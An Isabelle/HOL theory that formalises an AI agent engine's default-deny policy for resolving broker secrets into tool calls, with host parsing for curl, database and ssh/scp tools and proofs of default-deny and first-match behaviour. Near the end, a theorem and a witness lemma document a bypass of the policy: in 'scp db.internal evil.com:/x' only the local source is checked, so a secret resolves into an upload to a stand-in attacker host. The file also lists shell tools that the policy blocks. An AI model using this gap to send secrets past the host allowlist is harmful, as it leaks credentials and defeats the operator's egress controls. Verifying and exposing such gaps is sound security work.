(* ===== verification/Broker_Policy.thy ===== *)
theory Broker_Policy
  imports Session_Store
begin

text \<open>
  \<open>broker.rs\<close> of \<open>sordino-engine\<close>: the default-deny policy that decides whether a broker secret may
  be resolved into one parameter of a tool call, and the parsing of the destination host.

  \<open>globset\<close>, \<open>url\<close> and \<open>shlex\<close> are the record \<open>broker_api\<close>: whether a glob compiles and what it
  matches, the host of a URL (none when the text does not parse or has no host), and the shell split.
\<close>

section \<open>Data\<close>

record broker_api =
  glob_builds :: "string \<Rightarrow> bool"
  glob_match :: "string \<Rightarrow> string \<Rightarrow> bool"
  url_parse_host :: "string \<Rightarrow> string option"
  shlex_split :: "string \<Rightarrow> string list option"

definition RESERVED_NONDEREF_SECRET :: string where
  "RESERVED_NONDEREF_SECRET = ''sordino_admin_key''"

datatype dest_rule = HostAllowList "string list" | AnyHost

record broker_allow =
  ba_secret :: "string option"
  ba_tool :: string
  ba_pointer :: string
  ba_dest :: "dest_rule option"
  ba_ttl :: "nat option"

record broker_policy =
  allow :: "broker_allow list"

definition broker_policy_default :: broker_policy where
  "broker_policy_default = \<lparr>allow = []\<rparr>"

datatype deny_reason = NoRule | EgressBoundary | OpaqueCommand | HostNotAllowed string | HostUnparsed

datatype broker_decision = Resolve | Deny deny_reason

definition compile_glob :: "broker_api \<Rightarrow> string \<Rightarrow> engine_error + string" where
  "compile_glob B p = (if glob_builds B p then Inr p else Inl (InvalidSecret (BadBrokerGlob p)))"

definition broker_allow_new ::
  "broker_api \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> string \<Rightarrow> dest_rule option \<Rightarrow> nat option
   \<Rightarrow> engine_error + broker_allow" where
  "broker_allow_new B secret tool ptr dest ttl =
     (case (case secret of None \<Rightarrow> Inr None
            | Some p \<Rightarrow> (case compile_glob B p of Inl e \<Rightarrow> Inl e | Inr g \<Rightarrow> Inr (Some g))) of
        Inl e \<Rightarrow> Inl e
      | Inr s \<Rightarrow>
          (case compile_glob B tool of
             Inl e \<Rightarrow> Inl e
           | Inr t \<Rightarrow>
               (case compile_glob B ptr of
                  Inl e \<Rightarrow> Inl e
                | Inr p \<Rightarrow> Inr \<lparr>ba_secret = s, ba_tool = t, ba_pointer = p, ba_dest = dest, ba_ttl = ttl\<rparr>)))"

section \<open>Tools\<close>

definition is_egress_boundary_tool :: "string \<Rightarrow> bool" where
  "is_egress_boundary_tool t \<longleftrightarrow>
     starts_with ''mcp__'' t \<or> t = ''Task'' \<or> t = ''Agent'' \<or> starts_with ''subagent_'' t"

definition is_opaque_command_tool :: "string \<Rightarrow> bool" where
  "is_opaque_command_tool t \<longleftrightarrow>
     t \<in> {''Bash'', ''bash'', ''sh'', ''shell'', ''Shell'', ''zsh'', ''fish'', ''dash'', ''ksh'', ''pwsh'',
           ''powershell'', ''PowerShell'', ''cmd'', ''Execute'', ''exec'', ''run_command''}"

section \<open>Destination hosts\<close>

text \<open>\<open>eq_ignore_ascii_case\<close>, \<open>strip_prefix\<close> and \<open>split\<close> on a set of characters.\<close>

definition host_eq :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "host_eq rule parsed \<longleftrightarrow> map to_lower_byte rule = map to_lower_byte parsed"

definition strip_prefix :: "string \<Rightarrow> string \<Rightarrow> string option" where
  "strip_prefix p s = (if starts_with p s then Some (drop (length p) s) else None)"

fun split_chars :: "(string \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> string list" where
  "split_chars sep cur [] = [cur]"
| "split_chars sep cur (c # cs) = (if sep c then cur # split_chars sep [] cs else split_chars sep (cur @ c) cs)"

definition url_sep :: "string \<Rightarrow> bool" where
  "url_sep c \<longleftrightarrow> is_ws_char c \<or> c = [CHR 0x22] \<or> c = [CHR 0x27]"

fun url_host_tokens :: "broker_api \<Rightarrow> string list \<Rightarrow> string option" where
  "url_host_tokens B [] = None"
| "url_host_tokens B (tok # toks) =
     (if contains ''://'' tok then
        (case url_parse_host B tok of Some h \<Rightarrow> Some (ascii_lower h) | None \<Rightarrow> url_host_tokens B toks)
      else url_host_tokens B toks)"

definition url_host :: "broker_api \<Rightarrow> string \<Rightarrow> string option" where
  "url_host B v =
     (case url_parse_host B (trim v) of
        Some h \<Rightarrow> Some (ascii_lower h)
      | None \<Rightarrow> url_host_tokens B (split_chars url_sep [] (utf8_chars v)))"

fun flag_host_tokens :: "string list \<Rightarrow> string option" where
  "flag_host_tokens [] = None"
| "flag_host_tokens (t # ts) =
     (case strip_prefix ''--host='' t of
        Some h \<Rightarrow> (if h \<noteq> [] then Some (ascii_lower h) else None)
      | None \<Rightarrow>
          if t = ''-h'' \<or> t = ''--host'' then (case ts of [] \<Rightarrow> None | h # _ \<Rightarrow> Some (ascii_lower h))
          else flag_host_tokens ts)"

definition shell_tokens :: "broker_api \<Rightarrow> string \<Rightarrow> string list" where
  "shell_tokens B v = (case shlex_split B v of Some ts \<Rightarrow> ts | None \<Rightarrow> [])"

definition flag_host :: "broker_api \<Rightarrow> string \<Rightarrow> string option" where
  "flag_host B v = flag_host_tokens (shell_tokens B v)"

fun dsn_host :: "string list \<Rightarrow> string option" where
  "dsn_host [] = None"
| "dsn_host (t # ts) =
     (case strip_prefix ''host='' t of
        Some r \<Rightarrow> if r \<noteq> [] then Some (ascii_lower r) else dsn_host ts
      | None \<Rightarrow> dsn_host ts)"

definition psql_host :: "broker_api \<Rightarrow> string \<Rightarrow> string option" where
  "psql_host B v =
     (case url_host B v of
        Some h \<Rightarrow> Some h
      | None \<Rightarrow> (case flag_host B v of Some h \<Rightarrow> Some h | None \<Rightarrow> dsn_host (shell_tokens B v)))"

definition target_host :: "string \<Rightarrow> string" where
  "target_host t = takeWhile (\<lambda>c. c \<noteq> CHR '':'') (rev (takeWhile (\<lambda>c. c \<noteq> CHR ''@'') (rev t)))"

fun ssh_host_tokens :: "bool \<Rightarrow> string list \<Rightarrow> string option" where
  "ssh_host_tokens skip [] = None"
| "ssh_host_tokens skip (t # ts) =
     (if skip then ssh_host_tokens False ts
      else if t \<in> {''ssh'', ''scp'', ''sftp'', ''rsync''} then ssh_host_tokens False ts
      else if starts_with ''-'' t then
        ssh_host_tokens (t \<in> {''-i'', ''-p'', ''-l'', ''-o'', ''-F'', ''-c''}) ts
      else if target_host t \<noteq> [] then Some (ascii_lower (target_host t))
      else ssh_host_tokens False ts)"

definition ssh_host :: "broker_api \<Rightarrow> string \<Rightarrow> string option" where
  "ssh_host B v = ssh_host_tokens False (shell_tokens B v)"

definition parse_dest_host :: "broker_api \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option" where
  "parse_dest_host B tool v =
     (if tool \<in> {''curl'', ''wget'', ''http'', ''https'', ''httpie''} then url_host B v
      else if tool \<in> {''psql'', ''pg_dump'', ''pg_restore'', ''pg_dumpall'', ''createdb'', ''dropdb''} then psql_host B v
      else if tool \<in> {''mysql'', ''mariadb''} then
        (case flag_host B v of Some h \<Rightarrow> Some h | None \<Rightarrow> url_host B v)
      else if tool \<in> {''ssh'', ''scp'', ''sftp'', ''rsync''} then ssh_host B v
      else None)"

section \<open>The decision\<close>

definition rule_matches :: "broker_api \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> broker_allow \<Rightarrow> bool" where
  "rule_matches B name tool ptr a \<longleftrightarrow>
     (case ba_secret a of None \<Rightarrow> True | Some g \<Rightarrow> glob_match B g name)
     \<and> glob_match B (ba_tool a) tool \<and> glob_match B (ba_pointer a) ptr"

definition decide_dest :: "broker_api \<Rightarrow> string \<Rightarrow> string \<Rightarrow> broker_allow \<Rightarrow> broker_decision" where
  "decide_dest B tool v a =
     (case ba_dest a of
        None \<Rightarrow> Resolve
      | Some AnyHost \<Rightarrow> Resolve
      | Some (HostAllowList hosts) \<Rightarrow>
          (case parse_dest_host B tool v of
             Some h \<Rightarrow> if list_ex (\<lambda>x. host_eq x h) hosts then Resolve else Deny (HostNotAllowed h)
           | None \<Rightarrow> Deny HostUnparsed))"

fun decide_rules :: "broker_api \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> broker_allow list \<Rightarrow> broker_decision" where
  "decide_rules B name tool ptr v [] = Deny NoRule"
| "decide_rules B name tool ptr v (a # as) =
     (if rule_matches B name tool ptr a then decide_dest B tool v a else decide_rules B name tool ptr v as)"

definition decide :: "broker_api \<Rightarrow> broker_policy \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> broker_decision" where
  "decide B p name tool ptr v =
     (if is_egress_boundary_tool tool then Deny EgressBoundary
      else if is_opaque_command_tool tool then Deny OpaqueCommand
      else decide_rules B name tool ptr v (allow p))"

section \<open>Parsed hosts are lower case\<close>

text \<open>The values the parsers can return.\<close>

definition lowered :: "string option \<Rightarrow> bool" where
  "lowered r \<longleftrightarrow> (case r of None \<Rightarrow> True | Some h \<Rightarrow> ascii_lower h = h)"

lemma lowered_simps [simp]: "lowered None" "lowered (Some (ascii_lower h))"
  by (simp_all add: lowered_def)

lemma lowered_if: "lowered a \<Longrightarrow> lowered b \<Longrightarrow> lowered (if c then a else b)"
  by simp

lemma lowered_or_else: "lowered a \<Longrightarrow> lowered b \<Longrightarrow> lowered (case a of Some h \<Rightarrow> Some h | None \<Rightarrow> b)"
  by (cases a) simp_all

lemma tokens_lowered:
  "lowered (url_host_tokens B ts)" "lowered (flag_host_tokens ts)" "lowered (dsn_host ts)"
  "lowered (ssh_host_tokens b ts)"
proof -
  show "lowered (url_host_tokens B ts)" by (induction ts) (auto split: option.split)
  show "lowered (flag_host_tokens ts)" by (induction ts) (auto split: option.split list.split)
  show "lowered (dsn_host ts)" by (induction ts) (auto split: option.split)
  show "lowered (ssh_host_tokens b ts)" by (induction ts arbitrary: b) simp_all
qed

lemma url_host_lowered: "lowered (url_host B v)"
  using tokens_lowered(1) by (auto simp: url_host_def split: option.split)

lemma flag_host_lowered: "lowered (flag_host B v)"
  using tokens_lowered(2) by (simp add: flag_host_def)

lemma psql_host_lowered: "lowered (psql_host B v)"
  unfolding psql_host_def
  by (intro lowered_or_else url_host_lowered flag_host_lowered tokens_lowered)

lemma parse_dest_host_lowered: "lowered (parse_dest_host B tool v)"
  unfolding parse_dest_host_def ssh_host_def
  by (intro lowered_if lowered_or_else url_host_lowered flag_host_lowered psql_host_lowered tokens_lowered
      lowered_simps)

lemma host_listed:
  assumes "parse_dest_host B tool v = Some h"
  shows "list_ex (\<lambda>x. host_eq x h) hosts \<longleftrightarrow> h \<in> ascii_lower ` set hosts"
proof -
  have "ascii_lower h = h" using parse_dest_host_lowered [of B tool v] assms by (simp add: lowered_def)
  then have "host_eq x h \<longleftrightarrow> h = ascii_lower x" for x by (auto simp: host_eq_def ascii_lower_def)
  then show ?thesis by (auto simp: list_ex_iff)
qed

lemma decide_dest_Resolve:
  "decide_dest B tool v a = Resolve \<longleftrightarrow>
     (case ba_dest a of Some (HostAllowList hosts) \<Rightarrow>
          (\<exists>h. parse_dest_host B tool v = Some h \<and> h \<in> ascii_lower ` set hosts)
      | _ \<Rightarrow> True)"
  by (auto simp: decide_dest_def host_listed split: option.split dest_rule.split)

lemma decide_rules_first:
  "decide_rules B name tool ptr v as =
     (case find (rule_matches B name tool ptr) as of None \<Rightarrow> Deny NoRule | Some a \<Rightarrow> decide_dest B tool v a)"
  by (induction as) simp_all

lemma decide_dest_ruled: "decide_dest B tool v a \<noteq> Deny NoRule"
  by (simp add: decide_dest_def split: option.split dest_rule.split)

lemma find_split:
  "find Q as = Some a \<longleftrightarrow> (\<exists>pre post. as = pre @ a # post \<and> list_all (\<lambda>b. \<not> Q b) pre \<and> Q a)"
proof (induction as)
  case (Cons x as)
  show ?case
  proof (cases "Q x")
    case True
    have "x = a" if "x # as = pre @ a # post" "list_all (\<lambda>b. \<not> Q b) pre" for pre post
      using that True by (cases pre) auto
    with True show ?thesis by (auto intro: exI [of _ "[]"])
  next
    case False
    have "(\<exists>pre post. x # as = pre @ a # post \<and> list_all (\<lambda>b. \<not> Q b) pre \<and> Q a)
      \<longleftrightarrow> (\<exists>pre post. as = pre @ a # post \<and> list_all (\<lambda>b. \<not> Q b) pre \<and> Q a)" (is "?l \<longleftrightarrow> ?r")
    proof
      assume ?l
      then obtain pre post where p: "x # as = pre @ a # post" "list_all (\<lambda>b. \<not> Q b) pre" "Q a" by blast
      with False obtain pre' where "pre = x # pre'" by (cases pre) auto
      with p show ?r by auto
    next
      assume ?r
      then obtain pre post where p: "as = pre @ a # post" "list_all (\<lambda>b. \<not> Q b) pre" "Q a" by blast
      with False show ?l by (intro exI [of _ "x # pre"] exI [of _ post]) simp
    qed
    with False Cons show ?thesis by simp
  qed
qed simp

section \<open>Properties of the policy\<close>

text \<open>
  C36. The policy denies by default. A broker value resolves exactly when the tool is neither an egress
  boundary nor a free-form command, and the first rule whose secret, tool and pointer globs match
  puts no constraint on the host, or the host parsed from the parameter is, up to ASCII case,
  literally on its list (no suffix match, and an unparsed host never resolves).
\<close>

theorem decide_default_deny:
  "decide B p name tool ptr v = Resolve \<longleftrightarrow>
     \<not> is_egress_boundary_tool tool \<and> \<not> is_opaque_command_tool tool
     \<and> (\<exists>pre a post. allow p = pre @ a # post
          \<and> list_all (\<lambda>b. \<not> rule_matches B name tool ptr b) pre \<and> rule_matches B name tool ptr a
          \<and> (case ba_dest a of
               Some (HostAllowList hosts) \<Rightarrow>
                 (\<exists>h. parse_dest_host B tool v = Some h \<and> h \<in> ascii_lower ` set hosts)
             | _ \<Rightarrow> True))"
proof -
  have "decide_rules B name tool ptr v (allow p) = Resolve \<longleftrightarrow>
    (\<exists>a. find (rule_matches B name tool ptr) (allow p) = Some a \<and> decide_dest B tool v a = Resolve)"
    by (simp add: decide_rules_first split: option.split)
  then show ?thesis
    unfolding decide_def find_split decide_dest_Resolve by auto
qed

text \<open>
  Rules are tried in order and the first match decides: rules appended to a policy change only
  the decisions that no earlier rule made.
\<close>

theorem decide_first_match:
  "decide B \<lparr>allow = as @ bs\<rparr> name tool ptr v =
     (if decide B \<lparr>allow = as\<rparr> name tool ptr v = Deny NoRule then decide B \<lparr>allow = bs\<rparr> name tool ptr v
      else decide B \<lparr>allow = as\<rparr> name tool ptr v)"
proof -
  have "find Q (as @ bs) = (case find Q as of Some a \<Rightarrow> Some a | None \<Rightarrow> find Q bs)" for Q
    by (induction as) simp_all
  then show ?thesis
    using decide_dest_ruled by (auto simp: decide_def decide_rules_first split: option.split)
qed

text \<open>
  For the copy tools the host that is checked is the one of the first bare word: in
  \<open>scp source target\<close> it is read off the local source and the target is not looked at, so a rule
  that allows only the host \<open>h\<close> resolves a secret into an upload to any other host from a file
  named \<open>h\<close>.
\<close>

theorem scp_target_unchecked:
  assumes "shlex_split B v = Some (''scp'' # src # rest)" "src \<notin> {''ssh'', ''scp'', ''sftp'', ''rsync''}"
    and "\<not> starts_with ''-'' src" "target_host src = h" "h \<noteq> []" "ascii_lower h = h"
    and "rule_matches B name ''scp'' ptr a" "ba_dest a = Some (HostAllowList [h])"
  shows "parse_dest_host B ''scp'' v = Some h
    \<and> decide B \<lparr>allow = [a]\<rparr> name ''scp'' ptr v = Resolve"
proof -
  have "parse_dest_host B ''scp'' v = Some h"
    using assms(1-6) by (simp add: parse_dest_host_def ssh_host_def shell_tokens_def)
  moreover have "\<not> is_egress_boundary_tool ''scp''" "\<not> is_opaque_command_tool ''scp''"
    by (simp_all add: is_egress_boundary_tool_def is_opaque_command_tool_def starts_with_def)
  ultimately show ?thesis
    using assms(7,8) by (simp add: decide_def decide_dest_def host_eq_def)
qed

text \<open>Globs that match everything, words split at spaces.\<close>

definition sample_broker :: broker_api where
  "sample_broker =
     \<lparr>glob_builds = (\<lambda>_. True), glob_match = (\<lambda>p s. p = ''*'' \<or> p = s), url_parse_host = (\<lambda>_. None),
      shlex_split = (\<lambda>v. Some (split_chars (\<lambda>c. c = '' '') [] (utf8_chars v)))\<rparr>"

lemma scp_target_unchecked_witness:
  "decide sample_broker
     \<lparr>allow = [\<lparr>ba_secret = None, ba_tool = ''scp'', ba_pointer = ''*'', ba_dest = Some (HostAllowList [''db.internal'']),
                ba_ttl = None\<rparr>]\<rparr> ''key'' ''scp'' ''/args'' ''scp db.internal evil.com:/x'' = Resolve"
proof (rule scp_target_unchecked [THEN conjunct2])
  show "shlex_split sample_broker ''scp db.internal evil.com:/x'' = Some (''scp'' # ''db.internal'' # [''evil.com:/x''])"
    by code_simp
  show "target_host ''db.internal'' = ''db.internal''" "ascii_lower ''db.internal'' = ''db.internal''" by code_simp+
qed (simp_all add: starts_with_def rule_matches_def sample_broker_def)

end
